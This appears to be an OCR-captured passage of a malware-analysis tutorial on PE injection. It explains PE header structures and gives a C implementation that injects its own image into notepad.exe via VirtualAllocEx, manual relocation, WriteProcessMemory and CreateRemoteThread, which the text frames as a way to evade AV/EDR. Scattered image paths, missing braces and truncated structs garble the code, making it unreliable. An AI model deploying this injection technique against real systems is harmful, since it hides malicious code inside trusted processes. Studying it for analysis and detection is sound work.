Malware analysis with IDA/Radare2 - PE Injection techniques, the fundamentals

Malware analysis with IDA/Radare2 - PE Injection techniques, the fundamentals


Here we go again! During the previous parts of the reversing with radare2 course we’ve been discussing DLL injection techniques, how they work, how to implement them and how to detect them in malware. Today we are moving one step forward to injection either shellcode or full executables into remote processes. PE/shellcode injection techniques work in a similar way as what we’ve seen though this time we’ll want to map and relocate a full executable (so several structures would need to be correctly mapped) or shellcode which won’t need any re-locating but will need to be correctly implemented to keep the remote program from breaking.

In a similar way as with DLL injection, the main goal for injecting malware code into a remote process is to abuse a legitimate application, trusted by the system to make it run our code thus hidding the malware execution. The legitimate application will run, it will be validated by the AV/EDR then the melicious code will be loaded in it and run. On the other hand we may want to inject code into a remote process in order to manipulate its memory, examplens on that may involve: credential stealing, game cheating or process disruption and overall sabotage among many others.

In this post we will examine very simple but fundamental code injection techniques such as PE injection, shellcode injection and process hollowing (also known as runPE).

About the PE structure

So, before we dive into those techniques we need to do a quick reminder about the PE structure. For that I strongly advise you to read this introduction to the PE format as a basic comprehension on this format is needed to properly understand the code implementation.

According to Wikipedia:

The Portable Executable (PE) format is a file format forexecutables, object code, DLLs and others used in 32-bit and 64-bit versions of Windows operatingsystems. The PE format is a data structure that encapsulates the information necessary for the Windows OS loader to manage the wrapped executable code. This includes dynamic library references for linking, API export and import tables, resource management data and thread-local storage (TLS) data. On NT operating systems, the PE format is used for EXE, DLL, SYS (device driver), MUI and other file types. The Unified Extensible Firmware Interface (UEFI) specification states that PE is the standard executable format in EFI environments.

Basically an EXE is written following the PE format, the writte file contains the code of the program (machine code), the data it needs to run but also several tables of data containing instructions to be used by the operating system to correctly place it in memory and linke the needed resources, such as librarires to it in order to use them.

The first bytes of a PE can be mapped to the following table:

typedef struct _IMAGE_DOS_HEADER {
    USHORT e_magic;
    USHORT e_cblp;
    USHORT e_cp;
    USHORT e_crlc;
    USHORT e_cparhdr;
    USHORT e_minalloc;
    USHORT e_maxalloc;
    USHORT e_ss;
    USHORT e_sp;
    USHORT e_csum;
    USHORT e_ip;USHORT e_cs;
    USHORT e_lfarlc;
    USHORT e_ovno;
    USHORT e_res[4];
    USHORT e_oemid;
    USHORT e_oeminfo;
    USHORT e_res2[10];
    LONG   e_lfanew;

For example, the e_magic field is the typical “MZ” you’ll see when debugging/disasembling an exe. And PE file header, which contains useful information about the program is located by indexing the e_lfanew field of the _IMAGE_DOS_HEADER.

And that one can be mapped to the following struct:

typedef struct _IMAGE_NT_HEADERS {
  DWORD                   Signature;
  IMAGE_FILE_HEADER       FileHeader;

Generally, the structure we are looking for in this table is the OptionalHeader which contains information such as the addresses where the program execution should be mapped and should start from, references to its sections and the size of the program in memory, all needed to map the program into memory and enable its execution. Each section in the PE will contain data needed for the program to run, .data will contain information not related to code, used for the program to run, .text will contain code, .rsrc may contain icons and .reloc will contain memory relocations

This is how it looks like:

typedef struct _IMAGE_OPTIONAL_HEADER {
  WORD                 Magic;
  BYTE                 MajorLinkerVersion;
  BYTE                 MinorLinkerVersion;
  DWORD                SizeOfCode;
  DWORD                SizeOfInitializedData;
  DWORD                SizeOfUninitializedData;DWORD                AddressOfEntryPoint;DWORD                BaseOfCode;
  DWORD                BaseOfData;
  DWORD                ImageBase;
  DWORD                SectionAlignment;
  DWORD                FileAlignment;
  WORD                 MajorOperatingSystemVersion;
  WORD                 MinorOperatingSystemVersion;
  WORD                 MajorImageVersion;
  WORD                 MinorImageVersion;
  WORD                 MajorSubsystemVersion;
  WORD                 MinorSubsystemVersion;
  DWORD                Win32VersionValue;
  DWORD                SizeOfImage;
  DWORD                SizeOfHeaders;
  DWORD                CheckSum;
  WORD                 Subsystem;
  WORD                 DllCharacteristics;
  DWORD                SizeOfStackReserve;
  DWORD                SizeOfStackCommit;
  DWORD                SizeOfHeapReserve;
  DWORD                SizeOfHeapCommit;
  DWORD                LoaderFlags;
  DWORD                NumberOfRvaAndSizes;

In here, Sizeofimage contains the size of the program in memory once loaded, ImageBase the address where it should be starting from and AddressOfEntryPoint the address where it should start running from. Note that mapping is necessary because, as you see here, the program size will be different in disk than when loaded in memory! Also, its sections will get loaded at different places and will have different sizes than in disk. You can think about that in terms of compression/decompression, this is because of when in disk,the program data is consecutive, when in memory the program memory needs to be aligned, each section needs to be aligned to page boundary. But again, read about the PE format or watch a video. It can be very useful to play a little bit with software like PE BEAR once learning about that. *You may also wonder…why the base address is always at 0x00400000?

About Windows processesWhen a program is launched, the OS creates a process, maps the PE into it using the structures we have seen sets and starts the process at the address indicated by the entry point. Each process will have its own process id, that can be used access it in order to pause it, read andwrite memory into it or manage threads. A process may contain multiple threads ofexecution that can be seen as sub processes but they are not. Each thread will have its own resources but share memory with the other ones. When we open a process using OpenProcess or create it using CreateProcessW, we’ll get a HANDLE that will be used as a reference for that process. The idea behind threading is precisely that, to share memory and run code in parallel. When it comes to hacking an attacker can create a thread in a remote process to execute shellcode there. As this post isn’t about windows processes Watch this video if you need it.

PE Injection

Back to business, the idea behind PE injection is to run an executable in the memory space of a legitimate process, to avoid detections. The technique will work as follows. First the attacker process will get its base address, then parse its own headers to get its size in memory by the SizeOfImage, then it will allocate a block of memory according to its size and copy itself there. This can also be done directly in the remote process. Then it will allocate a similar block of memory in the remote process in order to copy itself there. Then it will calculate the difference between its own BaseImage previously retrieved and the address of the allocated memory in the remote process, this will be done for patching memory references. Then it will use its relocation table (.reloc section) to patch all memory references (entries in that table) using the previously calculated difference, as when loading the relocation table will be used along with its image base address, but as the attacker is loading the PE in an address different than that we need to manually do the relocation ourselves, emulating the loader. Having done that the attacker writtes the PE and creates a remote thread on the target process, starting from the newly calculated base address + the entry point, and the program just runs.

An implementation of the technique can be found below,where the program maps into memory and starts its execution at the InjectionEntryPoint function.

// based on this

#include <stdio.h>
#include <Windows.h>
#include <tlhelp32.h>

typedef struct BASE_RELOCATION_ENTRY {
    USHORT Offset : 12;
    USHORT Type : 4;

/* This is the function that will get called
* once we map the PE in the remote process
DWORD InjectionEntryPoint()
    CHAR moduleName[128] = "";
    // the name of the PE
    GetModuleFileNameA(NULL, moduleName, sizeof(moduleName));
    MessageBoxA(NULL, moduleName, "Ssssssimple PE Injection", NULL);
    return 0;

int main()

    HANDLE         hSnap;
    // information about therunning processes
    PROCESSENTRY32 pe32;
    DWORD          dwPid=0;
    // Get current image's base address
    PVOID imageBase = GetModuleHandle(NULL);
    PIMAGE_NT_HEADERS ntHeader = (PIMAGE_NT_HEADERS)((DWORD_PTR)imageBase + dosHeader->e_lfanew);

    // Allocate a new memory block and copy the current PE image to this new memory block
    PVOID localImage = VirtualAlloc(NULL, ntHeader->OptionalHeader.SizeOfImage, MEM_COMMIT, PAGE_READWRITE);
    memcpy(localImage, imageBase, ntHeader->OptionalHeader.SizeOfImage);

    // Search for the running processes
    // create snapshot of system
    hSnap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    if(hSnap == INVALID_HANDLE_VALUE) return 0;

    pe32.dwSize = sizeof(PROCESSENTRY32);
    // get first process and loop
    if(Process32First(hSnap, &pe32)){
      do {
          // check if it corresponds to notepad.exeif (lstrcmpi("notepad.exe", pe32.szExeFile)==0) {
          dwPid = pe32.th32ProcessID;
      } while(Process32Next(hSnap, &pe32));
        // return with error
        return 1;
    printf("[+] PID to inject in: %d \n",dwPid);

    // Open the target process - this is process we will be injecting this PE into
    HANDLE targetProcess = OpenProcess(MAXIMUM_ALLOWED, FALSE, dwPid);
    // Allocate a new memory block in the target process. This is where we will be injecting this PE
    PVOID targetImage = VirtualAllocEx(targetProcess, NULL, ntHeader->OptionalHeader.SizeOfImage, MEM_COMMIT, PAGE_EXECUTE_READWRITE);

    // Calculate delta between addresses of where the image will be located in the target process and where it's located currently
    DWORD_PTR deltaImageBase = (DWORD_PTR)targetImage - (DWORD_PTR)imageBase;// Relocate localImage, to ensure that it will have correct addresses once its in the target process
    PIMAGE_BASE_RELOCATION relocationTable =(PIMAGE_BASE_RELOCATION)((DWORD_PTR)localImage + ntHeader->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC].VirtualAddress);
    DWORD relocationEntriesCount = 0;
    PDWORD_PTR patchedAddress;
    // we do the relocation manually ourselves!
    // for each relocation block
    while ((int) relocationTable->SizeOfBlock > 0)
        relocationEntriesCount = (relocationTable->SizeOfBlock - sizeof(IMAGE_BASE_RELOCATION)) /sizeof(USHORT);
        relocationRVA = (PBASE_RELOCATION_ENTRY)(relocationTable + 1);
        // for each entry on the block
        for (short i = 0; i < relocationEntriesCount; i++)
            // is there an address to relocate?
            if (relocationRVA[i].Offset)
                // address to patch
                patchedAddress = (PDWORD_PTR)((DWORD_PTR)localImage + relocationTable->VirtualAddress + relocationRVA[i].Offset);
                // offset + delta
                *patchedAddress += deltaImageBase;
        // to the next relocation block
        relocationTable = (PIMAGE_BASE_RELOCATION)((DWORD_PTR)relocationTable + relocationTable->SizeOfBlock);

    // Write the relocated localImage into the target process
    WriteProcessMemory(targetProcess, targetImage, localImage, ntHeader->OptionalHeader.SizeOfImage, NULL);

    // Start the injected PE inside the target process
    CreateRemoteThread(targetProcess, NULL, 0, (LPTHREAD_START_ROUTINE)((DWORD_PTR)InjectionEntryPoint + deltaImageBase), NULL, 0, NULL);

    return 0;

Also note that when building executables, not all compilers will enable ASLR and thus create relocation tables (!). If you are usingmingw as in Codeblocks in Windows, you’ll need to append this in order to have a reloc table and easily implement the technique. Otherwise you’ll need your program to load at the base address as defined in the PE.


And how to detect it in code?

